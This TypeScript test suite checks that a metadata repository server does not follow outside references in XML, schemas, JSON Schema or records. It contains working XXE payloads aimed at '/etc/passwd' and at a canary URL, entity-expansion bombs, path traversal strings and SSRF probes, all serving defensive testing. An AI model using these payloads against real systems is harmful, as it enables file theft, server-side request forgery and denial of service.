import { dirname, join } from 'node:path'
import { expect } from 'chai'
import { parseId } from '../../src/core/value-types.js'
import { recordDirectory } from '../../src/store/records/repository-layout.js'
import { reasonWithoutLibxmljs2, utf16, xsd } from '../support/data/schema-bundles.js'
import { metadataRecordV1 } from '../support/http/test-service.js'
import { isLongForm } from '../support/program/long-form.js'
import { stopProcesses } from '../support/program/run-program.js'
import {
  plainRepositoryAt,
  removePlainRepositories,
  temporaryFolderSync,
} from '../support/repository/plain-git-repository.js'
import {
  filePart,
  type MonitoredResponse,
  type MonitoredServer,
  recordPart,
  startMonitoredServer,
  stopCanaryServers,
} from '../support/servers/monitored-server.js'

/** An XML Schema that accepts any element in `a`, valid or not. */
const anything = xsd(
  '<xs:element name="a"><xs:complexType mixed="true"><xs:sequence><xs:any processContents="lax" minOccurs="0" maxOccurs="unbounded"/></xs:sequence><xs:anyAttribute processContents="lax"/></xs:complexType></xs:element>',
)

for (const engine of ['libxml2-wasm', 'libxmljs2']) {
  describe(`references to places outside the repository, with ${engine}`, () => {
    let watched: MonitoredServer
    before(async function () {
      const reason = engine === 'libxmljs2' ? await reasonWithoutLibxmljs2() : undefined
      if (reason !== undefined) {
        console.log(`      skipped: ${reason}`)
        this.skip()
      }
      watched = await startMonitoredServer('--xml-engine', engine, '--allow-push')
      expect((await watched.postSchema({ schemaId: 'anything' }, anything)).status).to.equal(201)
      const kept = metadataRecordV1('http://example.org/kept', 'anything', { id: 'kept' })
      expect((await watched.postMetadata(kept, '<a/>')).status).to.equal(201)
    })
    after(async () => {
      stopCanaryServers()
      removePlainRepositories()
      await stopProcesses()
    })

    let count = 0
    /** Sends a document to create a record, to update one, and for validation only. @returns the answers */
    async function sendXml(document: Bytes): Promise<readonly MonitoredResponse[]> {
      const part = filePart('document', 'document', 'application/octet-stream', document)
      const resource = `http://example.org/${++count}`
      const created = await watched.postMetadata(metadataRecordV1(resource, 'anything'), document)
      if (created.status === 201) await isKept(created.body.id, document)
      const replaced = await watched.send('PUT', '/api/v1/metadata/kept', [part], { 'If-Match': '*' })
      if (replaced.status === 200) await isKept('kept', document)
      const checked = await watched.send('POST', '/api/v1/schemas/anything/validate', [part])
      return [created, replaced, checked]
    }
    async function isKept(id: string, document: Bytes): Promise<void> {
      const { bytes } = await watched.ask('GET', `/api/v1/metadata/${id}`)
      expect(
        bytes.equals(Buffer.from(document as string)),
        'the server keeps the bytes of the document',
      ).to.equal(true)
    }
    /** @param encodingsOf returns the encodings of the document at a position */
    const allDoctypes = async (
      documents: readonly string[],
      encodingsOf: (at: number) => readonly Encode[],
    ) => {
      for (const [index, document] of documents.entries()) {
        for (const encode of encodingsOf(index)) {
          const bytes = encode(document)
          const schema = filePart('schema', 'schema', 'application/octet-stream', bytes)
          for (const answer of await sendXml(bytes)) {
            expect(answer.status, document).to.equal(422)
            expect(answer.text, document).to.contain('DOCTYPE')
          }
          for (const answer of [
            await watched.postSchema({ schemaId: `x${count}` }, bytes),
            await watched.send('PUT', '/api/v1/schemas/anything', [schema], { 'If-Match': '*' }),
          ]) {
            expect(answer.status, document).to.equal(422)
            expect(answer.text, document).to.match(/DOCTYPE|entit|root element is not schema/)
          }
        }
      }
    }

    it('are not followed from external entities, in any form', async () => {
      const { fileUrls, files, url } = watched.canary
      const places = [fileUrls.txt, files.txt, `${url}/a`, `//127.0.0.1/a`, '/etc/passwd', 'php://filter/x']
      const forms = [
        (place: string) => `<!DOCTYPE a [<!ENTITY x SYSTEM "${place}">]><a>&x;</a>`,
        (place: string) => `<!DOCTYPE a [<!ENTITY x PUBLIC "p" "${place}">]><a b="&x;"/>`,
        (place: string) => `<!DOCTYPE a SYSTEM "${place}"><a/>`,
        (place: string) => `<!DOCTYPE a PUBLIC "p" "${place}" []><a/>`,
        (place: string) => `<!DOCTYPE a [<!ENTITY % x SYSTEM "${place}"> %x;]><a/>`,
        (place: string) =>
          `<!DOCTYPE a [<!ENTITY % f SYSTEM "${place}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '${url}/?%f;'>">%e;%s;]><a/>`,
        (place: string) =>
          `<!DOCTYPE a [<!NOTATION n SYSTEM "${place}"><!ENTITY x SYSTEM "${place}" NDATA n><!ATTLIST a b ENTITY #IMPLIED>]><a b="x"/>`,
        (place: string) =>
          `<?xml version="1.0" standalone="no"?>\n<!-- c --><?p?>\n<!DOCTYPE a [<!ATTLIST a b CDATA "&x;"><!ENTITY x SYSTEM "${place}">]><a/>`,
      ]
      const encodings = [
        (text: string) => Buffer.from(text),
        (text: string) => Buffer.from(`\ufeff${text}`),
        (text: string) => utf16(text),
        (text: string) => utf16(text, true),
      ]
      // In the short form each place has another encoding, and each form has all encodings.
      await watched.stands(() =>
        allDoctypes(
          forms.flatMap(form => places.map(form)),
          at => encodings.filter((_, encoding) => isLongForm || encoding === at % encodings.length),
        ),
      )
    })

    it('are not followed from external entities in a pushed commit', async () => {
      const { fileUrls, url } = watched.canary
      const clone = plainRepositoryAt(join(temporaryFolderSync(), 'clone'))
      const server = `http://127.0.0.1:${watched.server.port}/repository.git`
      plainRepositoryAt(dirname(clone.dir)).git('clone', '-q', server, 'clone')
      const head = clone.head()
      const places = {
        document: `${recordDirectory('metadata', parseId('kept', 'id'))}/document.xml`,
        schema: `${recordDirectory('schema', parseId('anything', 'schemaId'))}/schema.xsd`,
      }
      await watched.stands(async () => {
        for (const place of [fileUrls.txt, `${url}/a`]) {
          const entity = `<!DOCTYPE a [<!ENTITY x SYSTEM "${place}">]>`
          for (const [path, text] of [
            [places.document, `${entity}<a>&x;</a>`],
            [places.schema, `${entity}${anything.replace('</', '&x;</')}`],
          ] as const) {
            clone.write(path, text)
            clone.commit('An entity')
            const refused = await clone.gitLater('push', '--no-verify', '-q').then(
              () => 'It was taken.',
              (error: { readonly stderr?: string }) => error.stderr ?? String(error),
            )
            expect(refused, path)
              .to.contain(dirname(path))
              .and.to.match(/DOCTYPE|entity/)
            clone.git('reset', '-q', '--hard', head)
          }
        }
      })
      expect(plainRepositoryAt(watched.data).git('rev-parse', 'main')).to.equal(head)
    })

    it('are not expanded from entity bombs', async () => {
      const doubling = Array.from({ length: 40 }, (_, n) => `<!ENTITY x${n + 1} "&x${n};&x${n};">`).join('')
      const doublingParameters = Array.from(
        { length: 40 },
        (_, n) => `<!ENTITY % x${n + 1} "&#37;x${n};&#37;x${n};">`,
      ).join('')
      await watched.stands(
        () =>
          allDoctypes(
            [
              `<!DOCTYPE a [<!ENTITY x0 "ha">${doubling}]><a>&x40;</a>`,
              `<!DOCTYPE a [<!ENTITY x0 "ha">${doubling}]><a b="&x40;"/>`,
              `<!DOCTYPE a [<!ENTITY % x0 "ha">${doublingParameters}%x40;]><a/>`,
              `<!DOCTYPE a [<!ENTITY x "${'y'.repeat(50_000)}">]><a>${'&x;'.repeat(50_000)}</a>`,
              '<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]><a>&x;</a>',
            ],
            () => [text => Buffer.from(text), text => utf16(text)],
          ),
        { memory: 300 },
      )
    })

    it('are not followed from a document', async () => {
      const { fileUrls, files, url } = watched.canary
      const xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
      await watched.stands(async () => {
        for (const place of [fileUrls.xsd, files.xsd, `${url}/x.xsd`]) {
          for (const document of [
            `<a><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${place}"/></a>`,
            `<a><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${place}" parse="text"><xi:fallback/></xi:include></a>`,
            `<a><xi:include xmlns:xi="http://www.w3.org/2003/XInclude" href="${place}"/></a>`,
            `<a ${xsi} xsi:noNamespaceSchemaLocation="${place}"/>`,
            `<a ${xsi} xsi:schemaLocation="urn:b ${place}"><b xmlns="urn:b"/></a>`,
            `<a><b xmlns="urn:b" ${xsi} xsi:schemaLocation="urn:b ${place}" xsi:type="t"/></a>`,
            `<?xml-stylesheet type="text/xsl" href="${place}"?><a/>`,
            `<?xml-model href="${place}"?><?oasis-xml-catalog catalog="${place}"?><a/>`,
            `<a xml:base="${place}"><b/></a>`,
          ]) {
            for (const { status } of await sendXml(document)) {
              expect(status, document).to.be.oneOf([200, 201, 204, 422])
            }
          }
        }
      })
    })

    it('are not followed from an XML Schema', async () => {
      const { folder, fileUrls, files, url } = watched.canary
      const places = [
        fileUrls.xsd,
        fileUrls.xsd.replace('file://', 'FILE://localhost'),
        files.xsd,
        `../../../../../../../../..${files.xsd}`,
        `a/../../../../..${files.xsd}`,
        '..%2f..%2f..%2fcanary.xsd',
        `${url}/x.xsd`,
        url.replace('http:', ''),
        `ftp://127.0.0.1/x.xsd`,
        `jar:${url}/x.jar!/x.xsd`,
        'canary.xsd',
        `${folder}\\canary.xsd`,
      ]
      const element = '<xs:element name="a" type="t"/>'
      await watched.stands(async () => {
        for (const [row, place] of places.entries()) {
          for (const [column, [name, more]] of [
            ['include', ''],
            ['redefine', ''],
            ['override', ''],
            ['import', ''],
            ['import', 'namespace="urn:b"'],
          ].entries()) {
            const referring = xsd(`<xs:${name} ${more} schemaLocation="${place}"/>${element}`)
            const forms = [
              [referring, {}],
              [xsd('<xs:include schemaLocation="own.xsd"/>'), { 'own.xsd': referring }],
              [
                `<s:schema xmlns:s="http://www.w3.org/2001/XML&#83;chema"><s:${name} ${more}\nschemaLocation\n=\n'${place}'/><s:element name="a" type="t"/></s:schema>`,
                {},
              ],
            ] as const
            // The short form has each place and each element in each of these forms.
            for (const [document, files] of forms.filter(
              (_, at) => isLongForm || at === (row + column) % 3,
            )) {
              const answer = await watched.postSchema({ schemaId: `y${++count}` }, document, files)
              expect(answer.status, `${document}: ${answer.text}`).to.equal(422)
            }
          }
        }
      })
    })

    it('are not followed in a circle between XML Schemas', async () => {
      const self = (target: string) =>
        xsd(`<xs:include schemaLocation="${target}"/><xs:element name="a" type="xs:string"/>`)
      const groups = xsd(
        '<xs:group name="g"><xs:sequence><xs:group ref="g"/></xs:sequence></xs:group><xs:element name="a"><xs:complexType><xs:group ref="g"/></xs:complexType></xs:element>',
      )
      const types = xsd(
        '<xs:complexType name="t"><xs:complexContent><xs:extension base="t"/></xs:complexContent></xs:complexType>',
      )
      const union = xsd('<xs:simpleType name="t"><xs:union memberTypes="t"/></xs:simpleType>')
      await watched.stands(async () => {
        for (const [document, files, status] of [
          // A file that includes itself adds nothing.
          [self('schema.xsd'), {}, 201],
          [xsd('<xs:include schemaLocation="b.xsd"/>'), { 'b.xsd': self('b.xsd') }, 201],
          [
            xsd('<xs:include schemaLocation="b.xsd"/>'),
            { 'b.xsd': self('c.xsd'), 'c.xsd': xsd('<xs:include schemaLocation="b.xsd"/>') },
            201,
          ],
          [xsd('<xs:redefine schemaLocation="schema.xsd"/>'), {}, 422],
          [groups, {}, 422],
          [types, {}, 422],
          [union, {}, 422],
        ] as const) {
          const answer = await watched.postSchema({ schemaId: `z${++count}` }, document, files)
          expect(answer.status, `${document}: ${answer.text}`).to.equal(status)
        }
      })
    })
  })
}

type Encode = (text: string) => Uint8Array
type Bytes = string | Uint8Array

describe('references to places outside the repository, in JSON and in records', () => {
  let watched: MonitoredServer
  before(async () => {
    watched = await startMonitoredServer()
  })
  after(async () => {
    stopCanaryServers()
    await stopProcesses()
  })

  const drafts = {
    'draft-04': 'http://json-schema.org/draft-04/schema#',
    'draft-07': 'http://json-schema.org/draft-07/schema#',
    '2019-09': 'https://json-schema.org/draft/2019-09/schema',
    '2020-12': 'https://json-schema.org/draft/2020-12/schema',
  }
  let count = 0

  it('are not followed from a JSON Schema', async () => {
    const { fileUrls, files, url } = watched.canary
    const places = [
      fileUrls.json,
      files.json,
      `../../../../../../../../..${files.json}`,
      `${url}/x.json`,
      `${url}/x.json#/$defs/a`,
      url.replace('http:', ''),
      'canary.json',
      'canary.json#anchor',
      'urn:x:y',
    ]
    await watched.stands(async () => {
      for (const [row, $schema] of Object.values(drafts).entries()) {
        for (const [column, place] of places.entries()) {
          const keywords = [
            '$ref',
            ...($schema.includes('2020') ? ['$dynamicRef'] : []),
            ...($schema.includes('2019') ? ['$recursiveRef'] : []),
          ]
          for (const keyword of keywords) {
            const referring = { $schema, properties: { a: { [keyword]: place } } }
            // A recursive reference can refer only to "#".
            const from = { ...referring, [$schema.includes('04') ? 'id' : '$id']: `${url}/base/` }
            const forms = [
              [referring, {}],
              [from, {}],
              [{ $schema, $ref: 'own.json' }, { 'own.json': JSON.stringify(referring) }],
            ] as const
            // The short form has each place and each draft in each of these forms.
            for (const [schema, files] of forms.filter((_, at) => isLongForm || at === (row + column) % 3)) {
              const text = JSON.stringify(schema)
              const answer = await watched.postSchema({ schemaId: `a${++count}` }, text, files)
              expect(answer.status, `${text} with ${JSON.stringify(files)}`).to.equal(422)
            }
          }
        }
      }
      for (const $schema of [`${url}/meta.json`, fileUrls.json, files.json, 'canary.json', '#', 7]) {
        const answer = await watched.postSchema({ schemaId: `a${++count}` }, JSON.stringify({ $schema }))
        expect(answer.status, String($schema)).to.equal(422)
      }
      const vocabulary = { $vocabulary: { [`${url}/v`]: true }, $id: `${url}/s`, $schema: drafts['2020-12'] }
      const taken = await watched.postSchema({ schemaId: `a${++count}` }, JSON.stringify(vocabulary))
      expect(taken.status, taken.text).to.be.oneOf([201, 422])
    })
  })

  it('are not followed in a circle between JSON Schemas', async () => {
    const endless = {
      '$ref to #': { $ref: '#' },
      '$ref in a circle': {
        $ref: '#/$defs/a',
        $defs: { a: { $ref: '#/$defs/b' }, b: { $ref: '#/$defs/a' } },
      },
      '$dynamicRef to itself': { $dynamicAnchor: 'a', $dynamicRef: '#a' },
      '$dynamicRef by way of another': {
        $dynamicAnchor: 'a',
        allOf: [{ $ref: '#/$defs/b' }],
        $defs: { b: { $dynamicAnchor: 'b', allOf: [{ $dynamicRef: '#a' }] } },
      },
      '$recursiveRef to itself': {
        $schema: drafts['2019-09'],
        $recursiveAnchor: true,
        $recursiveRef: '#',
      },
      'not of itself': { not: { $ref: '#' } },
      'all branches to itself': { anyOf: [{ $ref: '#' }, { $ref: '#' }], allOf: [{ $ref: '#' }] },
      'unevaluated by itself': { unevaluatedProperties: { $ref: '#' }, allOf: [{ $ref: '#' }] },
    }
    await watched.stands(async () => {
      for (const [name, schema] of Object.entries(endless)) {
        const schemaId = `b${++count}`
        const answer = await watched.postSchema({ schemaId }, JSON.stringify(schema))
        expect(answer.status, `${name}: ${answer.text}`).to.be.oneOf([201, 422])
        if (answer.status === 422) continue
        for (const document of ['{}', '{"a": {"b": [1]}}']) {
          const resource = `http://example.org/${++count}`
          const judged = await watched.postMetadata(metadataRecordV1(resource, schemaId), document)
          expect(judged.status, `${name}: ${judged.text}`).to.be.oneOf([201, 422])
        }
      }
      const both = await watched.postSchema({ schemaId: `b${++count}` }, '{"$ref": "x.json"}', {
        'x.json': '{"$ref": "y.json"}',
        'y.json': '{"$ref": "x.json"}',
      })
      expect(both.status).to.be.oneOf([201, 422])
    })
  })

  it('are not followed from URLs in records', async () => {
    const { url, fileUrls, files } = watched.canary
    await watched.stands(async () => {
      for (const address of [`${url}/x`, fileUrls.json, files.json]) {
        const resource = `${address}#${++count}`
        const record = metadataRecordV1(resource, 'note', {
          licenseUri: address,
          pid: { identifier: address, identifierType: 'URL' },
          locationUri: address,
          metadataDocumentUri: address,
          provenance: address,
        })
        const created = await watched.postMetadata(record, `{"title": "${address}"}`)
        expect(created.status, created.text).to.be.oneOf([201, 400, 409])
        await watched.ask('GET', `/api/v1/metadata?resourceId=${encodeURIComponent(address)}`)
        for (const identifierType of ['URL', 'INTERNAL']) {
          const schema = { identifier: address, identifierType }
          const answer = await watched.postMetadata({ ...record, schema }, '{}')
          expect(answer.status, answer.text).to.be.oneOf([400, 422])
        }
      }
      // The server does not follow URLs in headers, either.
      const headers = {
        Host: url.slice('http://'.length),
        Referer: url,
        'X-Forwarded-Host': 'x',
        Origin: url,
      }
      expect((await watched.ask('GET', '/api/v1/schemas', { headers })).status).to.equal(200)
    })
  })

  it('are not followed between records that refer to each other', async () => {
    await watched.stands(async () => {
      const id = (n: number) => `circle-${n}`
      for (let n = 0; n < 20; n++) {
        const related = [
          { value: id((n + 1) % 20), identifierType: 'INTERNAL', relationType: 'IS_DERIVED_FROM' },
          { value: id(n), identifierType: 'INTERNAL', relationType: 'IS_PART_OF' },
          { value: `http://example.org/circle/${n}`, identifierType: 'URL', relationType: 'IS_METADATA_FOR' },
          { value: 'note', identifierType: 'INTERNAL', relationType: 'HAS_METADATA' },
        ]
        const record = { id: id(n), titles: [{ value: id(n) }], relatedIdentifiers: related }
        const answer = await watched.send('POST', '/api/v2/metadata', [
          recordPart(record),
          filePart('document', 'd', 'application/json', '{"title": "x"}'),
        ])
        expect(answer.status, answer.text).to.equal(201)
      }
      for (let n = 0; n < 20; n++) {
        for (const path of [
          `/api/v2/metadata/${id(n)}`,
          `/metadata-landing-page?id=${id(n)}`,
          `/metadata-landing-page-v2?id=${id(n)}`,
          `/api/v1/metadata/${id(n)}/versions`,
        ]) {
          const { status } = await watched.ask('GET', path)
          expect(status, path).to.be.oneOf([200, 404])
        }
      }
    })
  })
})
